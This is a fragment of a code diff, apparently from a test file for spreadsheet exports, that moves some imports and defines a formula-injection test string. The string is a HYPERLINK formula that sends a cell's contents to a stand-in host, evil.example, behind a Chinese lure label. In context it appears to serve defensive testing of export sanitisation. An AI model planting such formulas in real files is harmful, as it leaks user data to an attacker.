@@ -20,8 +20,9 @@ from openpyxl.cell.cell import Cell
 from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 
 from api.app import create_app
-from layers import exports, score_sheet, xlsx
-from layers.config import Settings
+from layers.db.settings import Settings
+from layers.io import exports, xlsx
+from layers.supervision import score_sheet
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看整改要求")'
 # OWASP's formula starts, each at the head of a description.
